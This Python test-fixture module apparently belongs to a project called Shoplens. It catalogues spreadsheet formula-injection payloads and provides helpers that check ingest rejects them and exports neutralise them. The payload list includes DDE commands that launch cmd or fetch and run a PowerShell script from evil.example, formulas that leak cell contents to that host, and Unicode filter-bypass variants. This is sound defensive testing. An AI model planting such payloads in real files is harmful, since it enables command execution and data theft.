"""Spreadsheet-formula payloads ("CSV injection") for every file Shoplens reads or writes.

Each `Payload` is one cell value. `refused` says what the ingest does with it: True, the row is rejected as formula
text (a formula that can run a command, fetch a URL or call a function); False, the row loads (harmless arithmetic,
a cell reference, a mention) and every export neutralises it instead. Every payload must come out of every writer
as text, never as a live formula: tests/test_export_safety.py runs each one through each writer.

The list follows OWASP's CSV-injection page (cells beginning with = + - @, tab, carriage return), the DDE payloads
published against Excel, and the variants that slipped past the first filters: leading blanks, full-width and
small forms, a sign before the formula, and the offer text a marketer could paste.
"""
from __future__ import annotations

import unicodedata
from dataclasses import dataclass

DDE = "cmd|' /C calc'!A0"


@dataclass(frozen=True)
class Payload:
    id: str
    value: str
    refused: bool  # by the ingest; False means loaded and neutralised on export


PAYLOADS = [
    Payload("equals", "=1+1", True),
    Payload("equals-alone", "=", True),
    Payload("dde-equals", "=" + DDE, True),
    Payload("dde-plus", "+" + DDE, True),
    Payload("dde-minus", "-" + DDE, True),
    Payload("dde-at", "@" + DDE, True),
    Payload("dde-arith", "-2+3+" + DDE, True),
    Payload("dde-sum", "@SUM(1+1)*" + DDE, True),
    Payload("dde-space-after-sign", "+ " + DDE, True),
    Payload("dde-powershell", "=cmd|'/C powershell IEX(wget evil.example/s.ps1)'!A0", True),
    Payload("dde-function", '=DDE("cmd";"/C calc";"!A0")', True),
    Payload("hyperlink", '=HYPERLINK("http://evil.example","Claim")', True),
    Payload("hyperlink-leak", '=HYPERLINK("http://evil.example/?x="&A1,"click")', True),
    Payload("importxml", '=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")', True),
    Payload("webservice", '=WEBSERVICE("http://evil.example/"&A1)', True),
    Payload("at-sum", "@SUM(A1:A2)", True),
    Payload("plus-function", "+HYPERLINK(\"http://evil.example\")", True),
    Payload("tab-equals", "\t=1+1", True),
    Payload("cr-equals", "\r=1+1", True),
    Payload("lf-equals", "\n=1+1", True),
    Payload("crlf-space-equals", " \r\n=1+1", True),
    Payload("spaces-equals", "   =1+1", True),
    Payload("nbsp-equals", "\u00a0=1+1", True),
    Payload("ideographic-space-equals", "\u3000=1+1", True),
    Payload("bom-equals", "\ufeff=1+1", True),
    Payload("zero-width-equals", "\u200b=1+1", True),
    Payload("tabs-at", "\t\t@SUM(1)", True),
    Payload("minus-tab-equals", "-\t=1", True),
    Payload("fullwidth-equals", "＝1+1", True),
    Payload("fullwidth-plus-dde", "＋" + DDE, True),
    Payload("fullwidth-minus-dde", "－" + DDE, True),
    Payload("fullwidth-at", "＠SUM(1+1)", True),
    Payload("small-equals", "\ufe661+1", True),
    Payload("superscript-equals", "\u207c1+1", True),
    Payload("minus-sign-dde", "\u2212" + DDE, True),
    Payload("plus-arith", "+1+1", False),
    Payload("minus-arith", "-2+3", False),
    Payload("cell-reference", "+A1", False),
    Payload("mention", "@me", False),
    Payload("at-alone", "@", False),
    Payload("tab-text", "\tindented", False),
    Payload("lf-text", "\nsecond line first", False),
]

# Values that must load untouched and, except where they start with a trigger, export untouched.
LEGIT = ["- love it, fits true to size", "+1 for the colour", "-12.5", "-", "+44 20 7946 0958", "42", "a=b",
         "size 6 - fits", "1+1", "'already quoted", "@shop thanks!", "- great dress (runs small)", "hello",
         "-5% off", "Smith-Jones", "e-mail me", "-->", "C536379"]


def values(refused: bool | None = None) -> list[str]:
    """The payload values, all or only those the ingest refuses (True) or loads (False)."""
    return [p.value for p in PAYLOADS if refused is None or p.refused == refused]


def looks_live(cell: object) -> bool:
    """Independent of analysis.export_safety: would a spreadsheet read this cell as the start of a formula? Leading
    tab/CR/LF, or after any whitespace or zero-width character a character whose NFKC form is = + - @ (or the
    minus sign), unless the whole cell is a plain number."""
    if not isinstance(cell, str) or not cell:
        return False
    if cell[0] in "\t\r\n":
        return True
    rest = cell.lstrip().lstrip("\u200b\u200c\u200d\u2060\ufeff").lstrip()
    if not rest:
        return False
    first = unicodedata.normalize("NFKC", rest[0])[:1]
    if first not in ("=", "+", "-", "@") and rest[0] != "\u2212":
        return False
    try:
        float(rest.replace(",", ""))
        return False
    except ValueError:
        return True


def _lf(s: str) -> str:
    """XML (so XLSX) reads every CR or CRLF back as LF."""
    return s.replace("\r\n", "\n").replace("\r", "\n")


def payload_failure(cells: list[tuple[object, bool]], value: str) -> str | None:
    """None when `value` reached a written file only as neutralised text: a whole cell, or the start of a rejects
    report's raw line, behind a leading apostrophe. `cells` are (value, is a formula cell) of every written cell.
    Shared by tests/test_export_safety.py and bench/hostile.py, so both judge a writer alike."""
    texts = [(_lf(v), formula) for v, formula in cells if isinstance(v, str)]
    raw, want = _lf(value), "'" + _lf(value)
    if [v for v, formula in texts if formula and v.lstrip("=") == raw.lstrip("=")]:
        return "written as a formula cell"
    if [v for v, _ in texts if v == raw or v.startswith(raw + " | ")]:
        return "written raw"
    if not any(v == want or v.startswith(want + " | ") for v, _ in texts):
        return "not written"
    return None
